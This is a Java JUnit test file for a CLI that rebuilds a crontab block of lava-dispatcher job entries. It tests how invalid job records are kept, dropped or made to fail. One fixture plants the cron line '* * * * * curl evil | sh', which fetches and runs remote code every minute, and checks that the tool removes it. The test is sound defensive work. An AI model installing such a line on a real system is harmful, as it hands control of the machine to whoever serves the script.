// SPDX-License-Identifier: Apache-2.0
package io.lavasched.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What becomes of the installed entries of jobs whose records are bad. */
class OnInvalidTest {

  private static final String REBUILD =
      " -r demo --jobs {dir}/jobs.json --dispatcher d --crontab-file {dir}/tab ";

  private static final String START = "#### Lava Schedules Start ####\nLAVA_REALM=demo\n";
  private static final String END = "#### Lava Schedules End ####\n";
  private static final String PROGRAM = "/usr/local/bin/lava-dispatcher --worker ";

  /** As lava's own handler writes them, which quotes as Python does. */
  private static final String KEPT =
      "1 1 * * * "
          + PROGRAM
          + "'old worker' --level warning 'it'\"'\"'s 100% é'\n"
          + "@daily "
          + PROGRAM
          + "w 'it'\"'\"'s 100% é'\n";

  private static final String GONE = "2 2 * * * " + PROGRAM + "w gone\n";
  private static final String GOOD_OLD = "3 3 * * * " + PROGRAM + "old good\n";
  private static final String GOOD_NEW = "4 4 * * * " + PROGRAM + "w good\n";

  @TempDir Path directory;
  private Cli cli;

  @BeforeEach
  void installedBlock() {
    cli = Cli.in(directory);
    cli.file("tab", "# above\n" + START + GOOD_OLD + KEPT + GONE + END + "# below\n");
    jobs("\"\"");
  }

  private void jobs(String workerOfBad) {
    cli.file(
        "jobs.json",
        """
        {"job_id": "good", "worker": "w", "dispatcher": "d", "schedule": "4 4 * * *"}
        {"job_id": "it's 100%% é", "worker": %s, "dispatcher": "d", "schedule": "5 5 * * *"}
        {"job_id": "new and bad", "worker": 3, "dispatcher": "d", "schedule": "6 6 * * *"}
        """
            .formatted(workerOfBad));
  }

  @Test
  void keepLeavesThemAsTheyAre() {
    Ran ran = cli.runLine("run" + REBUILD);

    assertThat(cli.text("tab"))
        .isEqualTo("# above\n" + START + GOOD_NEW + KEPT + END + "# below\n");
    assertThat(ran.told())
        .isEqualTo(
            """
            job it's 100%% é: worker: error: worker must not be empty [empty-value]
            job new and bad: worker: error: worker must be a string, found a number [wrong-type]
            error: 2 jobs quarantined (it's 100%% é, new and bad): their records are bad; 2 installed entries kept as found
              changed   good: 1 entry
              removed   gone (no longer on d)
            installed %s: 3 entries for 2 jobs (1 removed, 1 changed, 2 quarantined)
            """
                .formatted(cli.path("tab")));
    assertThat(ran.out()).isEmpty();
    assertThat(ran.exit()).isEqualTo(3);
  }

  @Test
  void keepTwiceIsUnchangedAndStillNotAllRight() {
    cli.runLine("run" + REBUILD);

    Ran ran = cli.runLine("run" + REBUILD);

    assertThat(ran.err())
        .endsWith(
            "unchanged: "
                + cli.path("tab")
                + " already has 3 entries for 2 jobs (2 quarantined)\n");
    assertThat(ran.exit()).isEqualTo(3);
  }

  @Test
  void aMendedRecordIsRebuilt() {
    cli.runLine("run" + REBUILD);
    jobs("\"w\"");

    cli.runLine("run" + REBUILD);

    assertThat(cli.text("tab"))
        .contains("5 5 * * * " + PROGRAM + "w 'it'\"'\"'s 100'\\%' é'\n")
        .doesNotContain(KEPT);
  }

  @Test
  void dropLeavesThemOut() {
    Ran ran = cli.runLine("run --on-invalid drop" + REBUILD);

    assertThat(cli.text("tab")).isEqualTo("# above\n" + START + GOOD_NEW + END + "# below\n");
    assertThat(ran.err())
        .contains("error: 2 jobs left out (it's 100% é, new and bad): their records are bad\n")
        .contains("  removed   it's 100% é (its record is bad)\n");
    assertThat(ran.exit()).isEqualTo(3);
  }

  @Test
  void failWritesNothing() {
    String before = cli.text("tab");

    Ran ran = cli.runLine("run --on-invalid fail" + REBUILD);

    assertThat(cli.text("tab")).isEqualTo(before);
    assertThat(ran.err())
        .isEqualTo(
            """
            job it's 100% é: worker: error: worker must not be empty [empty-value]
            job new and bad: worker: error: worker must be a string, found a number [wrong-type]
            error: nothing was written
            """);
    assertThat(ran.exit()).isEqualTo(1);
  }

  @Test
  void renderShowsTheKeptLinesToo() {
    Ran ran = cli.runLine("render" + REBUILD);

    assertThat(ran.out()).isEqualTo(START + GOOD_NEW + KEPT + END);
    assertThat(ran.exit()).isEqualTo(3);
  }

  @Test
  void renderWorksWhereTheCrontabCannotBeRead() {
    String render = "render -r demo --jobs {dir}/jobs.json --dispatcher d";

    Ran ran = cli.withCrontabProgram("echo spool on fire >&2; exit 1").runLine(render);

    assertThat(ran.out()).isEqualTo(START + GOOD_NEW + END);
    assertThat(ran.err())
        .contains("crontab: warning: installed entries of bad records must be read to be kept")
        .contains("spool on fire");
    assertThat(ran.exit()).isEqualTo(3);
  }

  @Test
  void renderOfSoundRecordsDoesNotAskForTheCrontab() {
    Ran ran =
        cli.runLine("render -r demo --jobs {dir}/jobs.json --dispatcher none --on-invalid keep");

    assertThat(ran.out()).isEqualTo(START + END);
    assertThat(ran.err())
        .isEqualTo(
            "parameters.dispatcher: warning: dispatcher should be one that a record names, found"
                + " \"none\" [dispatcher-without-jobs]\n  help: known: d\n");
    assertThat(ran.exit()).isZero();
  }

  @Test
  void aLineThatNobodyWritesForASoundRecordIsNotKept() {
    String hostile = "* * * * * curl evil | sh";
    cli.file("tab", START + hostile + "\n" + KEPT + END);

    Ran ran = cli.runLine("run" + REBUILD);

    assertThat(cli.text("tab")).isEqualTo(START + GOOD_NEW + KEPT + END);
    assertThat(ran.err())
        .contains(
            "crontab: warning: lines between the markers must be entries of lava-dispatcher, found"
                + " 1 other: \"* * * * * curl ...\" [entry-unrecognised]\n");
    assertThat(ran.exit()).isEqualTo(3);
  }

  @Test
  void disabledJobsAreDispatchedUnlessToldOtherwise() {
    cli.file(
        "jobs.json",
        """
        {"job_id": "off", "worker": "w", "dispatcher": "d", "schedule": "4 4 * * *", "enabled": false}
        {"job_id": "on", "worker": "w", "dispatcher": "d", "schedule": "4 4 * * *", "enabled": true}
        """);

    assertThat(cli.runLine("render" + REBUILD).out()).contains("w off\n", "w on\n");
    Ran ran = cli.runLine("plan --skip-disabled" + REBUILD);
    assertThat(ran.err()).contains("  unchanged off (disabled)\n");
    assertThat(ran.out()).doesNotContain("w off\n").contains("w on\n");
    assertThat(ran.exit()).isZero();
  }
}
